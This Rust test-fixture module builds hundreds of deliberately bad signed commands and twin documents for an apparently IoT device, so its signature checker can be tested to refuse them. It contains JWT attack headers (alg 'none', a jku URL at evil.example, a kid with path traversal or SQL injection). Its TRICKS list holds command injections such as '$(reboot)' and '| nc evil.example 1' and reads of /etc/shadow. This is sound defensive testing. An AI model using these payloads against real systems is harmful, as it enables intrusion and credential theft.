//! Documents that no device may follow: what a broker that was taken over, a stolen or old key, or a broken
//! cloud could send. Tests hand them out over both ways; the fault `hostile` serves them.
//!
//! Every document is wrong in one way, which its name says, and as right as can be otherwise: where the claims
//! are wrong the signature is good, so that the check that is meant is the one that has to refuse.

mod args;
pub mod claiming;
mod claims;
mod twin;

use ring::hmac;

use crate::credentials::Credentials;
use crate::jws;

/// One document with what is wrong with it, such as `token/alg-none` or `args/reboot/delay_s/-1`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hostile {
    /// Group, then what is wrong.
    pub name: String,
    /// As it is sent; mostly ASCII, not always.
    pub document: String,
}

/// Makes documents that are for one device, with its own key.
#[derive(Debug, Clone)]
pub struct Forge {
    key: hmac::Key,
    kid: String,
    edge_id: String,
    now: i64,
    number: i64,
}

impl Forge {
    /// For this device, at this Unix time.
    pub fn new(credentials: &Credentials, now: i64) -> Self {
        let key = hmac::Key::new(hmac::HMAC_SHA256, credentials.edge_secret.expose());
        Self::with(key, &credentials.edge_key, &credentials.edge_id, now)
    }

    /// The same from parts.
    pub fn with(key: hmac::Key, kid: &str, edge_id: &str, now: i64) -> Self {
        Self {
            key,
            kid: kid.to_owned(),
            edge_id: edge_id.to_owned(),
            now,
            number: 1,
        }
    }

    /// Numbers commands (`n`) and twins (`version`) so, instead of 1: a device remembers the highest number that
    /// was well signed, so a twin has to be newer than the real one and no command may be far ahead.
    pub fn numbered(mut self, number: i64) -> Self {
        self.number = number;
        self
    }

    /// Every hostile command: more than 500.
    pub fn commands(&self) -> Vec<Hostile> {
        let mut all = self.tokens(jws::COMMAND, &claims::good(self, "reboot", "{}"));
        all.extend(claims::all(self));
        all.extend(args::all(self));
        all
    }

    /// Every hostile twin.
    pub fn twins(&self) -> Vec<Hostile> {
        let mut all = self.tokens(jws::TWIN, &twin::good(self, "{}"));
        all.extend(twin::all(self));
        all
    }

    /// A good command, to see that it is what is wrong that is refused.
    pub fn good_command(&self, command_type: &str, args: &str) -> String {
        self.signed(jws::COMMAND, &claims::good(self, command_type, args))
    }

    fn signed(&self, typ: &str, claims: &str) -> String {
        jws::sign_raw(&self.key, &jws::header(&self.kid, typ), claims.as_bytes())
    }

    fn wrong(&self, typ: &str, name: impl Into<String>, claims: &str) -> Hostile {
        Hostile {
            name: name.into(),
            document: self.signed(typ, claims),
        }
    }

    /// Good claims in a bad document: form, header, MAC, size.
    fn tokens(&self, typ: &str, claims: &str) -> Vec<Hostile> {
        let good = self.signed(typ, claims);
        let parts: Vec<&str> = good.split('.').collect();
        let [head, payload, mac] = [parts[0], parts[1], parts[2]];
        let kid = &self.kid;
        let other_typ = if typ == jws::COMMAND {
            jws::TWIN
        } else {
            jws::COMMAND
        };
        let other_key = hmac::Key::new(hmac::HMAC_SHA256, &[0x5a; 32]);
        let flipped = if mac.starts_with('A') { "B" } else { "A" };
        let mut all: Vec<(&str, String)> = vec![
            ("empty", String::new()),
            ("one-part", head.to_owned()),
            ("two-parts", format!("{head}.{payload}")),
            ("four-parts", format!("{good}.{mac}")),
            ("dots", "..".into()),
            ("spaces", format!(" {good}")),
            ("newline", format!("{good}\n")),
            ("zero", format!("{good}\0")),
            ("padded", format!("{head}.{payload}.{mac}=")),
            ("not-base64", format!("{head}.{payload}!.{mac}")),
            ("standard-alphabet", format!("{head}.{payload}.+/{mac}")),
            ("not-ascii", format!("{head}.{payload}.é{mac}")),
            (
                "wrong-mac",
                format!("{head}.{payload}.{flipped}{}", &mac[1..]),
            ),
            ("short-mac", format!("{head}.{payload}.{}", &mac[..21])),
            ("no-mac", format!("{head}.{payload}.")),
            (
                "other-key",
                jws::sign_raw(&other_key, &jws::header(kid, typ), claims.as_bytes()),
            ),
            (
                "empty-key",
                jws::sign_raw(
                    &hmac::Key::new(hmac::HMAC_SHA256, b""),
                    &jws::header(kid, typ),
                    claims.as_bytes(),
                ),
            ),
            (
                "json-form",
                format!(
                    "{{\"protected\":\"{head}\",\"payload\":\"{payload}\",\"signature\":\"{mac}\"}}"
                ),
            ),
            (
                "html",
                "<html><body>Welcome to the hotel</body></html>".into(),
            ),
        ];
        let headers = [
            (
                "alg-none",
                format!("{{\"alg\":\"none\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "alg-none-case",
                format!("{{\"alg\":\"nOnE\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "alg-hs512",
                format!("{{\"alg\":\"HS512\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "alg-rs256",
                format!("{{\"alg\":\"RS256\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "alg-missing",
                format!("{{\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "alg-twice",
                format!(
                    "{{\"alg\":\"HS256\",\"alg\":\"none\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"
                ),
            ),
            ("typ-other", jws::header(kid, other_typ)),
            ("typ-jwt", jws::header(kid, "JWT")),
            (
                "typ-missing",
                format!("{{\"alg\":\"HS256\",\"kid\":\"{kid}\"}}"),
            ),
            ("kid-other", jws::header("ek_other", typ)),
            ("kid-empty", jws::header("", typ)),
            ("kid-path", jws::header("../../../dev/null", typ)),
            ("kid-sql", jws::header("x' or '1'='1", typ)),
            (
                "kid-missing",
                format!("{{\"alg\":\"HS256\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "crit",
                format!(
                    "{{\"alg\":\"HS256\",\"crit\":[\"b64\"],\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"
                ),
            ),
            (
                "b64-false",
                format!("{{\"alg\":\"HS256\",\"b64\":false,\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            (
                "jwk",
                format!(
                    "{{\"alg\":\"HS256\",\"jwk\":{{\"kty\":\"oct\",\"k\":\"AA\"}},\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"
                ),
            ),
            (
                "jku",
                format!(
                    "{{\"alg\":\"HS256\",\"jku\":\"https://evil.example/k\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"
                ),
            ),
            (
                "order",
                format!("{{\"typ\":\"{typ}\",\"alg\":\"HS256\",\"kid\":\"{kid}\"}}"),
            ),
            (
                "blank",
                format!("{{ \"alg\":\"HS256\",\"kid\":\"{kid}\",\"typ\":\"{typ}\"}}"),
            ),
            ("not-json", "alg=HS256".into()),
            ("header-empty", String::new()),
        ];
        for (name, header) in &headers {
            all.push((name, jws::sign_raw(&self.key, header, claims.as_bytes())));
        }
        let none = jws::sign_raw(&self.key, &headers[0].1, claims.as_bytes());
        let unsigned = none.rsplit_once('.').map_or("", |(input, _)| input);
        all.push(("alg-none-unsigned", format!("{unsigned}.")));
        let huge = claims.replacen('{', &format!("{{\"pad\":\"{}\",", "x".repeat(300_000)), 1);
        all.push(("oversize", self.signed(typ, &huge)));
        all.push(("payload-empty", self.signed(typ, "")));
        all.push(("payload-not-json", self.signed(typ, "reboot now")));
        all.push(("payload-array", self.signed(typ, &format!("[{claims}]"))));
        all.push((
            "payload-twice",
            self.signed(typ, &format!("{claims}{claims}")),
        ));
        all.push((
            "payload-bom",
            self.signed(typ, &format!("\u{feff}{claims}")),
        ));
        all.into_iter()
            .map(|(name, document)| Hostile {
                name: format!("token/{name}"),
                document,
            })
            .collect()
    }
}

/// Strings that are tricks wherever they stand.
pub(crate) const TRICKS: [&str; 14] = [
    "",
    "..",
    "../../../etc/shadow",
    "/etc/passwd",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| nc evil.example 1",
    "%s%s%n",
    "a\\u0000b",
    "\\ud800",
    "\\u202egpj.exe",
    "x' or '1'='1",
    "filesrc location=/etc/shadow ! fakesink",
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    fn forge() -> Forge {
        let key = hmac::Key::new(hmac::HMAC_SHA256, &[7; 32]);
        Forge::with(key, "ek_0001", "e-0001", 1_795_226_400)
    }

    #[test]
    fn there_are_enough_each_with_its_name() {
        let (commands, twins) = (forge().commands(), forge().twins());
        let names: BTreeSet<&String> = commands.iter().map(|one| &one.name).collect();
        assert_eq!(names.len(), commands.len());
        let twin_names: BTreeSet<&String> = twins.iter().map(|one| &one.name).collect();
        assert_eq!(twin_names.len(), twins.len());
        println!("{} commands, {} twins", commands.len(), twins.len());
        assert!(commands.len() >= 400 && commands.len() + twins.len() >= 500);
    }

    /// What is wrong with a token the signature shows; what is wrong with claims it does not.
    #[test]
    fn the_signature_is_good_where_the_claims_are_wrong() {
        let forge = forge();
        for one in forge.commands() {
            let seen = jws::verify(&forge.key, "ek_0001", jws::COMMAND, &one.document);
            let by_claims = !one.name.starts_with("token/")
                || one.name.starts_with("token/payload-")
                || one.name == "token/oversize";
            assert_eq!(seen.is_ok(), by_claims, "{}", one.name);
        }
        let good = forge.good_command("reboot", "{}");
        assert!(jws::verify(&forge.key, "ek_0001", jws::COMMAND, &good).is_ok());
    }
}
